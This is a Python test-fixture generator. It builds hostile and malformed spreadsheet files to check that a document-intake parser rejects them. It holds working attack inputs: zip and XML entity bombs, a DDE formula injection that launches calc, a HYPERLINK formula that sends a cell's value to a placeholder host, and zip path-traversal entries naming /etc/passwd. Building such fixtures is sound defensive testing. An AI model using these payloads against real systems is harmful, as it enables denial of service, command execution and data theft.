"""Makes lists that mean harm, or look as if: every kind that "hostile lists" names, from a seed."""

import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

from caseapp.domain import list_errors as e
from caseapp.domain.errors import CaseError
from intake import workbooks as w

Rows = list[list[object]]

_SURNAMES = ("Вигадченко", "Небувалий", "Придуманко", "Ніхтоїв", "Казковський", "Мареник")
_GIVEN = ("Сергій", "Андрій", "Олег", "Юрій", "Іван", "Петро")
_FATHERS = ("Іванович", "Петрович", "Олегович", "Юрійович")


@dataclass(frozen=True)
class Hostile:
    """A file, what it is, and how it must end: with one of these errors, or None: it is read."""

    kind: str
    file_name: str
    data: bytes
    ends: tuple[type[CaseError] | None, ...]


def people(rng: Random, count: int) -> Rows:
    """Return an honest list of invented people."""
    rows: Rows = [["№ з/п", "ПІБ", "Дата народження", "Звання"]]
    for number in range(1, count + 1):
        name = f"{rng.choice(_SURNAMES)} {rng.choice(_GIVEN)} {rng.choice(_FATHERS)}"
        born = f"{rng.randint(1, 28):02}.{rng.randint(1, 12):02}.{rng.randint(1965, 2004)}"
        rows.append([number, name, born, "солдат"])
    return rows


def truncated(rng: Random) -> Hostile:
    make, name = rng.choice([(w.openpyxl_xlsx, "a.xlsx"), (w.ods, "a.ods"), (w.xls, "a.xls")])
    data = make(people(rng, 20))
    return Hostile("truncated", name, data[: rng.randint(9, len(data) * 2 // 3)], (e.ListBroken,))


def flipped_bytes(rng: Random) -> Hostile:
    """Two bytes of a packed part are other bytes: only its checksum tells."""
    data = bytearray(w.openpyxl_xlsx(people(rng, 40)))
    start = data.index(b"xl/worksheets/sheet1.xml") + 40
    for _ in range(2):
        data[start + rng.randint(0, 400)] ^= rng.randint(1, 255)
    return Hostile("flipped bytes", "a.xlsx", bytes(data), (e.ListBroken,))


def random_bytes(rng: Random) -> Hostile:
    name = rng.choice(["a.xlsx", "a.xls", "a.ods", "a.csv", "a.txt"])
    data = bytes([rng.randint(0x80, 0xFF)]) + rng.randbytes(rng.randint(600, 60_000))
    return Hostile("random bytes", name, data, (e.NotAList, e.NoListFound))


def random_behind_magic(rng: Random) -> Hostile:
    magic, name = rng.choice(
        [(b"PK\x03\x04", "a.xlsx"), (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "a.xls")]
    )
    data = magic + rng.randbytes(rng.randint(100, 9_000))
    return Hostile("random behind magic", name, data, (e.ListBroken,))


def zip_bomb(rng: Random) -> Hostile:
    parts = w.xlsx_parts("<sheetData/>")
    parts["xl/media/image1.png"] = bytes(rng.randint(201, 230) * 2**20)
    return Hostile("zip bomb", "a.xlsx", w.zipped(parts), (e.ListTooBig,))


def lying_zip_bomb(rng: Random) -> Hostile:
    """The directory says a few bytes; the part unpacks to many."""
    data = bytearray(w.zipped({**w.xlsx_parts("<sheetData/>"), "xl/styles.xml": bytes(30 * 2**20)}))
    size = struct.pack("<I", 30 * 2**20)
    while (at := data.find(size)) >= 0:
        data[at : at + 4] = struct.pack("<I", rng.randint(10, 90))
    return Hostile("lying zip bomb", "a.xlsx", bytes(data), (e.ListBroken,))


def row_bomb(rng: Random) -> Hostile:
    rows = people(rng, 3)
    kind = rng.randrange(3)
    if kind == 0:
        repeats = rng.choice([30_000, 2**20, 2**31 - 1, 10**12])
        row = f"<table:table-row table:number-rows-repeated='{repeats}'>{w.ods_cell('x')}</table:table-row>"
        return Hostile(
            "row bomb",
            "a.ods",
            w.zipped(w.ods_parts(w.ods_rows(rows) + row)),
            (e.ListTooBig, e.ListBroken),
        )
    if kind == 1:
        lines = "№;ПІБ\n" + "1;Вигадченко Іван Іванович\n" * 20_001
        return Hostile("row bomb", "a.csv", lines.encode(), (e.ListTooBig,))
    place = rng.choice(["XFD1048576", "A20001", "B1048576", "KN5"])
    return Hostile("row bomb", "a.xlsx", w.shared_xlsx(rows, w.inline(place, "x")), (e.ListTooBig,))


def far_blank_at_the_end(rng: Random) -> Hostile:
    data = w.shared_xlsx(people(rng, 3), w.inline("XFD1048576", " "))
    return Hostile("blank at the end of the world", "a.xlsx", data, (e.ListTooBig,))


def far_blank(rng: Random) -> Hostile:
    rows = people(rng, 5)
    kind = rng.randrange(3)
    if kind == 0:
        return Hostile(
            "far blank", "a.xlsx", w.shared_xlsx(rows, w.inline("ZZ20000", " ")), (None,)
        )
    if kind == 1:
        return Hostile("far blank", "a.xls", w.xls(rows, {(30_000, 250): "  "}), (None,))
    row = f"<table:table-row table:number-rows-repeated='19000'/><table:table-row>{w.ods_cell(None, 700)}{w.ods_cell(' ')}</table:table-row>"
    return Hostile("far blank", "a.ods", w.zipped(w.ods_parts(w.ods_rows(rows) + row)), (None,))


def xml_bomb(rng: Random) -> Hostile:
    entities = "".join(
        f"<!ENTITY e{i} '{f'&e{i - 1};' * 10}'>" for i in range(1, rng.randint(6, 12))
    )
    bomb = f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e0 'ha'>{entities}]>"
    kind = rng.randrange(4)
    if kind == 3:
        parts = w.ods_parts(w.ods_rows(people(rng, 2)))
        parts["content.xml"] = bomb + str(parts["content.xml"])
        return Hostile("xml bomb", "a.ods", w.zipped(parts), (e.ListBroken,))
    parts = w.xlsx_parts("<sheetData/>")
    name = ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"][kind]
    parts[name] = bomb + str(parts[name])
    return Hostile("xml bomb", "a.xlsx", w.zipped(parts), (e.ListBroken,))


def spaces_bomb(rng: Random) -> Hostile:
    cell = f"<table:table-cell office:value-type='string'><text:p>a<text:s text:c='{rng.randint(10**6, 2 * 10**9)}'/>b</text:p></table:table-cell>"
    data = w.zipped(
        w.ods_parts(w.ods_rows(people(rng, 2)) + f"<table:table-row>{cell}</table:table-row>")
    )
    return Hostile("spaces bomb", "a.ods", data, (e.ListTooBig,))


def string_bomb(rng: Random) -> Hostile:
    """One long shared string that very many cells point to."""
    cells = "".join(f"<row r='{n}'><c r='A{n}' t='s'><v>0</v></c></row>" for n in range(1, 19_000))
    data = w.zipped(
        w.xlsx_parts(f"<sheetData>{cells}</sheetData>", ["я" * rng.randint(30_000, 3_000_000)])
    )
    return Hostile("string bomb", "a.xlsx", data, (e.ListTooBig,))


def many_columns(rng: Random) -> Hostile:
    wide = 100_000
    kind = rng.randrange(3)
    if kind == 0:
        data = ("ПІБ" + ";x" * wide + "\nВигадченко Іван Іванович\n").encode()
        return Hostile("100,000 columns", "a.csv", data, (e.ListTooBig,))
    if kind == 1:
        row = f"<table:table-row>{w.ods_cell('x', wide)}</table:table-row>"
        return Hostile("100,000 columns", "a.ods", w.zipped(w.ods_parts(row)), (e.ListTooBig,))
    cells = "".join(f"<c r='{w.letters(at)}1'><v>1</v></c>" for at in range(1, wide))
    return Hostile(
        "100,000 columns",
        "a.xlsx",
        w.zipped(w.xlsx_parts(f"<sheetData><row r='1'>{cells}</row></sheetData>")),
        (e.ListTooBig,),
    )


def formulas(rng: Random) -> Hostile:
    rows = people(rng, 4)
    rows[1][1] = '=HYPERLINK("http://example.invalid/?"&A2,"Вигадченко Іван")'
    rows[2][3] = "=cmd|' /C calc'!A0"
    data = w.openpyxl_xlsx(rows) if rng.random() < 0.5 else _csv(rows)
    return Hostile("formulas", "a.xlsx" if data[:2] == b"PK" else "a.csv", data, (None,))


def control_and_bidi(rng: Random) -> Hostile:
    rows = people(rng, 4)
    signs = "\u202e\u2066\u200b\u200f\ufeff\u0007\u001b[2J\u0085"
    for row in rows[1:]:
        at = rng.randint(1, len(str(row[1])) - 1)
        row[1] = f"{str(row[1])[:at]}{rng.choice(signs)}{str(row[1])[at:]}"
    return Hostile("control and bidi", "a.csv", _csv(rows), (None,))


def long_cells(rng: Random) -> Hostile:
    rows = people(rng, 4)
    rows[2][3] = "я" * rng.randint(10_001, 500_000)
    return Hostile("long cells", "a.xlsx", w.shared_xlsx(rows), (None,))


def wrong_extension(rng: Random) -> Hostile:
    """What the file is counts, not what it is called."""
    data, name = rng.choice(
        [
            (w.openpyxl_xlsx(people(rng, 3)), "a.csv"),
            (_csv(people(rng, 3)), "a.xlsx"),
            (w.xls(people(rng, 3)), "a.xlsx"),
            (w.ods(people(rng, 3)), "a.xls"),
        ]
    )
    return Hostile("wrong extension", name, data, (None,))


def html_in_xls(rng: Random) -> Hostile:
    start = rng.choice(
        ["<html><body>", "<!DOCTYPE html><html>", "\ufeff<table>", "<HTML xmlns:x='urn:x'>"]
    )
    return Hostile(
        "html in xls",
        "a.xls",
        f"{start}<table><tr><td>ПІБ</td></tr></table>".encode(),
        (e.NotAList,),
    )


def encrypted(rng: Random) -> Hostile:
    kind = rng.randrange(4)
    if kind == 0:
        data = w.compound(
            {"EncryptedPackage": rng.randbytes(5_000), "EncryptionInfo": b"\x04\x00\x04\x00"}
        )
        return Hostile("encrypted", "a.xlsx", data, (e.ListEncrypted,))
    if kind == 1:
        book = struct.pack("<HHHHHHHH", 0x0809, 8, 0x0600, 5, 0, 0, 0x2F, 4) + b"\x00\x00\x12\x34"
        return Hostile(
            "encrypted",
            "a.xls",
            w.compound({"Workbook": book.ljust(5_000, b"\x00")}),
            (e.ListEncrypted,),
        )
    if kind == 2:
        entry = "<manifest:file-entry manifest:full-path='content.xml'><manifest:encryption-data/></manifest:file-entry>"
        data = w.zipped({**w.ods_parts("", manifest=entry), "content.xml": rng.randbytes(900)})
        return Hostile("encrypted", "a.ods", data, (e.ListEncrypted,))
    zipped = bytearray(w.openpyxl_xlsx(people(rng, 2)))
    at = zipped.index(b"PK\x01\x02")
    zipped[at + 8] |= 1
    return Hostile("encrypted", "a.xlsx", bytes(zipped), (e.ListEncrypted,))


def macro(rng: Random) -> Hostile:
    kind = rng.randrange(4)
    if kind == 0:
        data = w.zipped({**w.xlsx_parts("<sheetData/>"), "xl/vbaProject.bin": rng.randbytes(99)})
        return Hostile("macro", "a.xlsm", data, (e.ListHasMacros,))
    if kind == 1:
        data = w.zipped({**w.xlsx_parts("<sheetData/>"), "xl/macrosheets/sheet1.xml": "<x/>"})
        return Hostile("macro", "a.xlsx", data, (e.ListHasMacros,))
    if kind == 2:
        data = w.compound({"Workbook": bytes(5_000), "_VBA_PROJECT_CUR": rng.randbytes(4_100)})
        return Hostile("macro", "a.xls", data, (e.ListHasMacros,))
    data = w.zipped(
        {**w.ods_parts(w.ods_rows(people(rng, 2))), "Basic/Standard/Module1.xml": "<x/>"}
    )
    return Hostile("macro", "a.ods", data, (e.ListHasMacros,))


def empty(rng: Random) -> Hostile:
    kind = rng.randrange(4)
    if kind == 0:
        return Hostile("empty", "a.xlsx", b"", (e.NotAList,))
    if kind == 1:
        return Hostile("empty", "a.csv", b"\xef\xbb\xbf \r\n\r\n", (e.NotAList,))
    if kind == 2:
        return Hostile("empty", "a.xlsx", w.openpyxl_xlsx([]), (e.NoListFound,))
    return Hostile("empty", "a.ods", w.ods([]), (e.NoListFound,))


def no_list(rng: Random) -> Hostile:
    rows: Rows = [
        ["Артикул", "Кількість", "Ціна"],
        *([f"А-{rng.randint(1, 99)}", n, n * 2.5] for n in range(20)),
    ]
    data = rng.choice(
        [w.openpyxl_xlsx(rows), _csv(rows), "\n".join(["Просто текст без списку."] * 5).encode()]
    )
    return Hostile("no list", "a.xlsx", data, (e.NoListFound,))


def pdf(rng: Random) -> Hostile:
    return Hostile(
        "pdf", rng.choice(["a.pdf", "a.xlsx"]), b"%PDF-1.7\n" + rng.randbytes(2_000), (e.NotAList,)
    )


def image(rng: Random) -> Hostile:
    chunk = b"IHDR" + struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    png = (
        b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))
    )
    data = rng.choice(
        [
            png,
            b"\xff\xd8\xff\xe0" + rng.randbytes(500),
            b"GIF89a" + rng.randbytes(99),
            b"\x00\x00\x00\x18ftypheic" + rng.randbytes(99),
        ]
    )
    return Hostile("image", rng.choice(["a.png", "a.xls", "a.csv"]), data, (e.NotAList,))


def too_large(rng: Random) -> Hostile:
    return Hostile("too large", "a.csv", b"x" * (20 * 2**20 + rng.randint(1, 99)), (e.ListTooBig,))


def names_as_paths(rng: Random) -> Hostile:
    """Parts named like paths are never written anywhere."""
    parts = {**w.xlsx_parts(""), "../../../../tmp/evil": "x", "/etc/passwd": "x"}
    return Hostile("names as paths", "../../etc/a.xlsx", w.zipped(parts), (e.NoListFound,))


def twice_the_same_part(rng: Random) -> Hostile:
    data = w.shared_xlsx(people(rng, 2))
    return Hostile(
        "twice the same part",
        "a.xlsx",
        w.with_second_part(data, "xl/worksheets/sheet1.xml", b"<x/>"),
        (e.ListBroken,),
    )


def other_archives(rng: Random) -> Hostile:
    data = rng.choice(
        [
            w.zipped({"list.csv": "ПІБ"}),
            w.zipped({"word/document.xml": "<x/>"}),
            w.zipped({"xl/workbook.bin": b"x"}),
            b"Rar!\x1a\x07\x00",
            b"MZ" + bytes(200),
            b"{\\rtf1 x}",
        ]
    )
    return Hostile("other archives", "a.xlsx", data, (e.NotAList,))


def lying_xls(rng: Random) -> Hostile:
    """An .xls that says it reaches to the end of the world, though it does not."""
    data = w.xls(people(rng, 5))
    told = w.patched_record(data, 0x200, struct.pack("<IIHH", 0, 2**31, 0, 0xFFFF))
    return Hostile("lying xls", "a.xls", told, (None,))


KINDS: tuple[Callable[[Random], Hostile], ...] = (
    truncated, flipped_bytes, random_bytes, random_behind_magic, zip_bomb, lying_zip_bomb, row_bomb,
    far_blank, far_blank_at_the_end, xml_bomb, spaces_bomb, string_bomb, many_columns, formulas, control_and_bidi,
    long_cells, wrong_extension, html_in_xls, encrypted, macro, empty, no_list, pdf, image, too_large,
    names_as_paths, twice_the_same_part, other_archives, lying_xls,
)  # fmt: skip


def _csv(rows: Rows) -> bytes:
    return "\n".join(
        ";".join("" if cell is None else str(cell) for cell in row) for row in rows
    ).encode()
